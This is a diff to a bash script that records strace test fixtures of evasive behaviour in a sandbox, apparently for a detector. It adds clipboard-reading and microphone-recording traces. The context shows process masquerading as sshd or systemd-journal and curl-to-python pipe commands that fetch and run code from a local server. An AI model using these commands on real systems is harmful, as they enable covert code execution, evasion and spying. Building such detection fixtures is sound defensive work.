@@ -1,6 +1,6 @@
 #!/bin/bash
 # Captures testdata/formats/strace/f_tt_T_y_io_uring_exfil.txt, f_tt_T_y_container_secrets.txt,
-# f_tt_T_y_v_history_off.txt, f_tt_T_y_v_history_kept.txt, f_tt_T_y_daemon_masquerade.txt and f_tt_T_y_s200_pipe_to_interpreter.txt: behaviour that hides
+# f_tt_T_y_v_history_off.txt, f_tt_T_y_v_history_kept.txt, f_tt_T_y_daemon_masquerade.txt, f_tt_T_y_spy_tools.txt and f_tt_T_y_s200_pipe_to_interpreter.txt: behaviour that hides
 # from a syscall trace or leaves no file behind, each run as uid 1001 in fresh pid, mount and
 # net namespaces (only `lo`; every connection goes to 127.0.0.1), a tmpfs home with FAKE
 # secrets (random text) and a tmpfs /run holding a fake Kubernetes service-account token and
@@ -18,6 +18,9 @@
 #   daemon_masquerade: bash's `exec -a` runs sleep as "/usr/sbin/sshd" and as
 #     "sshd: root@pts/0", python3 renames itself "systemd-journal" with prctl(PR_SET_NAME);
 #     the negative: `exec -a sleep /usr/bin/sleep` (argv[0] its own name).
+#   spy_tools (needs xclip, alsa-utils): sh runs xclip -o (the clipboard read; no X server,
+#     so it fails to connect to /tmp/.X11-unix/X0) and arecord (no sound card: it fails); the
+#     negative: xclip -i, a write to the clipboard.
 #   pipe_to_interpreter: a Python "updater" whose os.system runs sh -c 'curl -fsS URL |
 #     python3 -' and sh -c 'python3 -c "$(curl -fsS URL)"' against an untraced python
 #     http.server on 127.0.0.1:18556 serving a one-line stage.
@@ -73,6 +76,8 @@ run f_tt_T_y_daemon_masquerade.txt -f -tt -T -y -s 96 -- /bin/sh -c \
   '/bin/bash -c "exec -a /usr/sbin/sshd sleep 0.1"; /bin/bash -c "exec -a \"sshd: root@pts/0\" sleep 0.1";
    python3 -c "import ctypes; ctypes.CDLL(None).prctl(15, b\"systemd-journal\", 0, 0, 0)";
    /bin/bash -c "exec -a sleep /usr/bin/sleep 0.1"'
+run f_tt_T_y_spy_tools.txt -f -tt -T -y -s 96 -e trace=process,network -- /bin/sh -c \
+  'DISPLAY=:0 xclip -o -selection clipboard; arecord -q -d 1 -f cd /tmp/mic.wav; DISPLAY=:0 xclip -selection clipboard -i /dev/null'
 cat > $H/updater.py <<'PY'
 import os
 URL = "http://127.0.0.1:18556/stage.py"
